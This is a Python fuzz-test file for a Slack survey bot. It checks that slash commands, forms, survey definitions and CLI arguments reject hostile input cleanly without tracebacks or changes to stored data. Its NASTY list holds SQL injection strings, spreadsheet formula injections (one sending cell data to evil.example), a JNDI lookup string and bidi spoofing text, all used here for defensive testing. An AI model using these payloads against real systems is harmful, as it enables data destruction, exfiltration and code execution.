"""Hostile input everywhere a person or an operator can type: each gets a clear answer or a
clean refusal, never a 500 or a traceback, and nothing already stored changes (except the one
row the input was meant to add).

Kinds tried: arbitrary Unicode, control characters (NUL, ESC, bidi overrides), 100 KB strings,
Slack markup and mentions, SQL fragments, spreadsheet formulas, template and format strings.
"""

from __future__ import annotations

import copy
import io
import json
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select, update

from bot import cli
from bot.interactions import Caller, dispatch_action, dispatch_form
from bot.services import Services
from bot.surveys.conversation import answer
from bot.surveys.loader import LIBRARY_DIR, SurveyDefinitionError, load_survey_text
from bot.surveys.messages import Routing
from bot.surveys.service import open_survey
from storage.models import Invitation
from tests.conftest import COORDINATOR, SIGNING_SECRET
from tests.fakes.signing import slash_command_body
from tests.fakes.slack_api import FakeSlackAPI, async_wait_until
from tests.slack.server import running_bot
from tests.snapshot import changed_tables, snapshot

NASTY = [
    "<!channel>",
    "<!here|here> <!everyone>",
    "<@U123> <@UCOORD1|ruth> <#C999|secret>",
    "'; DROP TABLE updates; --",
    "Robert'); DELETE FROM members WHERE ('1'='1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\x00\x01\x02\x1b[31mred\x1b[0m\x7f",
    "\u202egnp.exe\u202c \u200b\ufeff",
    "%s%s%s%n {0} {{7*7}} ${jndi:ldap://x}",
    "x" * 100_000,
    "é" * 30_000 + "\u0301" * 5_000,
    "\n" * 5_000,
    "*bold* _it_ ~strike~ `code` ```block``` > quote",
    "<https://evil.example|https://gov.uk>",
    "🙂" * 2_000,
    "",
    " ",
]
hostile = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=300),
    st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=100),
    st.builds(lambda a, b: a + b, st.sampled_from(NASTY), st.text(max_size=50)),
)
SOME = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
SORRY = "something went wrong"
MEMBER = Caller(platform="slack", team_id="T0001", user_id="UALICE01", channel_id="DUALICE01")
WRITER = Caller(platform="slack", team_id="T0001", user_id=COORDINATOR, channel_id="C1")


def _visible(message: Any) -> str:
    return json.dumps(message, default=repr) if message is not None else ""


# -- slash command text, through the real app over signed HTTP -------------------------------

VERBS = [
    "",
    "help ",
    "topics ",
    "survey ",
    "survey open ",
    "my-data ",
    "forget-me ",
    "report ",
    "new ",
    "subscribe ",
    "unsubscribe ",
    "digest ",
]


@SOME
@given(verb=st.sampled_from(VERBS), text=hostile)
async def test_slash_command_text(
    services: Services, fake_slack: FakeSlackAPI, verb: str, text: str
) -> None:
    before = await snapshot(services)
    name = f"h{len(fake_slack.responses())}"
    body = slash_command_body(
        text=verb + text, user_id="U1", response_url=fake_slack.response_url(name)
    )
    forms = len(fake_slack.calls("views.open"))
    async with running_bot(services, SIGNING_SECRET) as client:
        reply = await client.post(body)
        assert reply.status == 200, reply.body[:300]
        # A clear answer, or (for a bare `new` / `report`) the form opened.
        assert await async_wait_until(
            fake_slack,
            lambda: bool(fake_slack.responses(name)) or len(fake_slack.calls("views.open")) > forms,
            10.0,
        )
    said = [r.body for r in fake_slack.responses(name)]
    said += [c.params for c in fake_slack.calls("views.open")[forms:]]
    shown = json.dumps(said)
    assert SORRY not in shown and "Traceback" not in shown
    for mention in ("<!channel>", "<!here", "<!everyone>", "<@U123>"):
        assert mention not in shown  # echoed words are escaped, never live mentions
    allowed = {
        "report ": {"concerns", "outbox", "audit_log"},
        "subscribe ": {"channels", "subscriptions"},
        "unsubscribe ": {"channels", "subscriptions"},
    }.get(verb, set())
    assert changed_tables(before, await snapshot(services)) <= allowed


# -- free-text survey answers: the core `answer` and the Slack free-text form ---------------


async def _at_free_text(services: Services) -> Routing:
    """Alice's invitation, waiting on the optional free-text question `benefits`."""
    async with services.sessions.begin() as session:
        invitation = await session.scalar(select(Invitation))
        if invitation is None:
            await open_survey(services, "dps-experience", [MEMBER.user_id], actor=COORDINATOR)
            invitation = await session.scalar(select(Invitation))
        assert invitation is not None
        await session.execute(
            update(Invitation)
            .where(Invitation.id == invitation.id)
            .values(state="in_progress", current_question="benefits")
        )
        await session.refresh(invitation)
        return Routing(invitation.id, "benefits", invitation.version)


@SOME
@given(text=hostile, through_form=st.booleans())
async def test_free_text_answers(services: Services, text: str, through_form: bool) -> None:
    routing = await _at_free_text(services)
    before = await snapshot(services)
    if through_form:
        result = await dispatch_form(
            services, MEMBER, "survey.text", {"answer": text}, routing.encode()
        )
        outcome = _visible(result.errors) + _visible(result.reply) + _visible(result.replace)
        refused = bool(result.errors)
    else:
        turn = await answer(services, MEMBER, routing, text)
        outcome = _visible(turn.show) + _visible(turn.say)
        refused = turn.error is not None
    assert outcome and "Traceback" not in outcome
    changed = changed_tables(before, await snapshot(services))
    if refused:
        assert len(text.strip()) > 2000 or changed == set(), (text[:80], changed)
        assert changed == set()
    else:
        assert changed <= {"draft_answers", "invitations"}
        assert "<!channel>" not in outcome


# -- the update form's fields (bot.authoring), as the coordinator -----------------------------


@SOME
@given(
    title=hostile,
    body=hostile,
    link=hostile,
    deadline=hostile,
    publish_at=hostile,
    topic=st.one_of(st.just("general"), hostile),
)
async def test_update_form_fields(
    services: Services, title: str, body: str, link: str, deadline: str, publish_at: str, topic: str
) -> None:
    before = await snapshot(services)
    values = {"topic": topic, "title": title, "body": body, "link": link, "deadline": deadline}
    values["publish_at"] = publish_at
    result = await dispatch_form(services, WRITER, "update.write", values, "")
    changed = changed_tables(before, await snapshot(services))
    if result.errors:
        assert changed == set()
        assert all(
            isinstance(m, str) and m and "Traceback" not in m for m in result.errors.values()
        )
    else:
        assert changed == {"updates", "audit_log"}
        assert result.reply is not None and "Preview" in result.reply.text
    for name in ("<!channel>", "<!here"):
        assert name not in _visible(result.reply)


# -- concern text: the report form and the command --------------------------------------------


@SOME
@given(text=hostile, place=hostile, topic=st.one_of(st.just(""), hostile))
async def test_concern_form(services: Services, text: str, place: str, topic: str) -> None:
    before = await snapshot(services)
    values = {"text": text, "place": place, "topic": topic}
    result = await dispatch_form(services, MEMBER, "concern.report", values, "")
    changed = changed_tables(before, await snapshot(services))
    if result.errors:
        assert changed == set()
    else:
        assert changed <= {"concerns", "outbox"} and "concerns" in changed
        assert result.reply is not None and "without your name" in result.reply.text


@SOME
@given(
    value=hostile, name=st.sampled_from(["update.publish", "survey.answer", "privacy.keep", "x"])
)
async def test_forged_button_values(services: Services, value: str, name: str) -> None:
    before = await snapshot(services)
    result = await dispatch_action(services, MEMBER, name, value)
    assert result.reply is not None or result.replace is not None
    assert changed_tables(before, await snapshot(services)) == set()


# -- survey definitions: hostile wording in an otherwise valid survey -------------------------

DPS = yaml.safe_load((LIBRARY_DIR / "dps-experience.yml").read_text(encoding="utf-8"))


@settings(max_examples=60, deadline=None)
@given(text=hostile, where=st.sampled_from(["title", "intro", "question", "option", "help"]))
def test_hostile_wording_in_a_survey_definition(text: str, where: str) -> None:
    doc = copy.deepcopy(DPS)
    if where in ("title", "intro"):
        doc[where] = text
    elif where == "question":
        doc["questions"][0]["text"] = text
    elif where == "option":
        doc["questions"][0]["options"][0]["label"] = text
    else:
        doc["questions"][0]["help"] = text
    try:
        load_survey_text(yaml.safe_dump(doc, allow_unicode=True), "dps-experience.yml")
    except SurveyDefinitionError as error:
        assert str(error).startswith("dps-experience.yml: ") and "\n" not in str(error)


# -- CLI arguments, in-process -----------------------------------------------------------------


def _cli(args: list[str]) -> tuple[int, str]:
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        try:
            status = cli.main(args)
        except SystemExit as exit_:
            status = int(exit_.code or 0)
    return status, out.getvalue() + err.getvalue()


@pytest.fixture
def cli_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    for name in ("SLACK_BOT_TOKEN", "SLACK_APP_TOKEN", "TEAMS_APP_ID"):
        monkeypatch.delenv(name, raising=False)
    assert _cli(["db", "upgrade"])[0] == 0
    (tmp_path / "body.md").write_text("A plain body.", encoding="utf-8")
    return tmp_path


def _updates(folder: Path) -> list[tuple[Any, ...]]:
    import sqlite3

    with sqlite3.connect(folder / "cli.db") as connection:
        return connection.execute("SELECT title, topic FROM updates").fetchall()


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    title=hostile, link=st.one_of(st.none(), hostile), topic=st.sampled_from(["general", "x;--"])
)
def test_cli_updates_add(cli_db: Path, title: str, link: str | None, topic: str) -> None:
    before = _updates(cli_db)
    args = ["updates", "add", "--topic", topic, "--title", title, "--body-file", "body.md"]
    if link is not None:
        args += ["--link", link]
    status, said = _cli(args)
    assert "Traceback" not in said
    after = _updates(cli_db)
    if status == 0:
        assert after[: len(before)] == before and len(after) == len(before) + 1
    else:
        assert status == 2 and said.strip() and after == before
